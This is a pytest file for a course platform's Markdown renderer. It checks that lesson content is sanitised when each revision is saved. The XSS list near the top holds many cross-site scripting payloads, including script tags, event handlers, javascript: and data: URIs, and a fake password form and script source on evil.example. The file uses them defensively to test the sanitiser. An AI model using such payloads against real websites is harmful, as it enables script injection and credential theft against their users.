"""Lesson Markdown renders to safe HTML, once per revision."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from modules.models import LessonRevision
from modules.rendering import render_markdown
from modules.services import save_revision
from tests.factories import build_course, lessons_in
from training.extensions import db

#: what may come out: text structure, links and images, never scripts, frames or forms
INERT_TAGS = {
    "a", "b", "blockquote", "br", "code", "del", "div", "em", "h2", "h3", "i", "img", "li", "ol",
    "p", "pre", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}
XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src="x.png" onerror="alert(1)">',
    '<a href="#" onclick="alert(1)" onmouseover="alert(2)">x</a>',
    "[click](javascript:alert(1))",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<javascript:alert(1)>",
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '<iframe src="https://evil.example"></iframe>',
    '<svg onload="alert(1)"><circle/></svg>',
    '<div style="background:url(javascript:alert(1))" onclick="alert(1)">t</div>',
    '<form action="https://evil.example"><input name="password"></form>',
    "<object data=x.swf></object><embed src=x.swf>",
    '<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "![x](javascript:alert(1))",
]


class TagCollector(HTMLParser):
    """Every element and attribute the browser would build from the HTML."""

    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


@pytest.mark.parametrize("source", XSS)
def test_dangerous_markup_renders_inert(source):
    html = render_markdown(f"Before\n\n{source}\n\nAfter")
    parser = TagCollector()
    parser.feed(html)
    for tag, attrs in parser.tags:
        assert tag in INERT_TAGS, (source, html)
        assert not [name for name in attrs if name.startswith("on") or name == "style"], html
        for name in ("href", "src"):
            scheme = attrs.get(name, "").strip().lower().split(":")[0]
            assert name not in attrs or scheme in ("http", "https", "mailto", "#") or (
                ":" not in attrs[name]
            ), (source, html)
    assert "Before" in html and "After" in html


def test_lesson_features_survive_sanitising():
    html = render_markdown(
        "# Title\n\n## Section\n\n### Sub\n\n"
        "- one\n- two\n\n1. first\n2. second\n\n"
        "| Needle | Length |\n| --- | ---: |\n| 0.25 mm | 30 mm |\n\n"
        '![Surface anatomy](/static/img/landmarks.png "Landmarks")\n\n'
        "[FSBPT](https://www.fsbpt.org)\n\n"
        "::: warning\nNever needle **over the lung** without depth control.\n:::\n\n"
        "::: note\nA side note.\n:::\n\n"
        "> A quote\n\n`code` and ~~struck~~\n"
    )
    assert "<h2>Title</h2>" in html and "<h2>Section</h2>" in html and "<h3>Sub</h3>" in html
    assert "<h1" not in html
    assert "<ul>" in html and "<ol>" in html and "<li>two</li>" in html
    assert "<table>" in html and "<th>Needle</th>" in html and '<td align="right">30 mm</td>' in html
    assert '<figure class="lesson-figure"><a href="/static/img/landmarks.png" class="figure-link"' in html
    assert '<img src="/static/img/landmarks.png" alt="Surface anatomy" class="img-fluid" loading="lazy">' in html
    assert "<figcaption>Landmarks</figcaption></figure>" in html
    assert '<a href="https://www.fsbpt.org" rel="noopener noreferrer nofollow">FSBPT</a>' in html
    assert '<div class="callout callout-warning">' in html
    assert "<strong>over the lung</strong>" in html
    assert '<div class="callout callout-note">' in html
    assert "<blockquote>" in html and "<code>code</code>" in html and "<s>struck</s>" in html


def test_only_callout_classes_are_kept():
    html = render_markdown('<div class="callout-warning modal fixed-top">x</div>\n')
    assert 'class="callout-warning"' in html


@pytest.mark.parametrize("source", [
    "```python\nnever closed",
    "::: warning\nnever closed",
    "<div><p>unclosed <b>tags",
    "[link with no end](http://",
    "| a | b |\n|---|\n| 1 | 2 | 3 |",
    "> " * 5000 + "deep",
    "- " * 5000 + "deep",
    "*" * 20000,
    "[" * 20000,
    "\x00 nul and \ufffd replacement",
    "",
])
def test_broken_markdown_still_renders(source):
    html = render_markdown(source)
    assert isinstance(html, str)


def test_lesson_page_serves_the_html_stored_with_the_revision(client, login, trainee):
    """Rendering happens once, when a revision is saved; pages show the stored HTML."""
    course = build_course((1,))
    [lesson] = lessons_in(course.id)
    revision = db.session.get(LessonRevision, lesson.current_revision_id)
    assert revision.html == "<p>Text of lesson 1.1.</p>\n"
    revision.html = "<p>stored-html-marker</p>"
    db.session.commit()
    login(trainee)
    client.post(f"/courses/{course.slug}/enrol")
    page = client.get(f"/courses/{course.slug}/lessons/{lesson.id}").get_data(as_text=True)
    assert "stored-html-marker" in page and "Text of lesson 1.1." not in page


def test_a_new_revision_is_rendered_and_sanitised_when_saved(app):
    course = build_course((1,))
    [lesson] = lessons_in(course.id)
    revision = save_revision(lesson, "Unsafe", "Hello <img src=x onerror=alert(1)>")
    db.session.commit()
    assert revision.number == 2 and "onerror" not in revision.html and "Hello" in revision.html
    assert lesson.current_revision_id == revision.id


def test_a_lesson_with_broken_markdown_still_opens(client, login, trainee):
    course = build_course((1,))
    [lesson] = lessons_in(course.id)
    save_revision(lesson, "Broken", "::: warning\nunclosed callout\n\n```\nunclosed fence <b>\n")
    db.session.commit()
    login(trainee)
    client.post(f"/courses/{course.slug}/enrol")
    response = client.get(f"/courses/{course.slug}/lessons/{lesson.id}")
    assert response.status_code == 200
    assert "unclosed callout" in response.get_data(as_text=True)
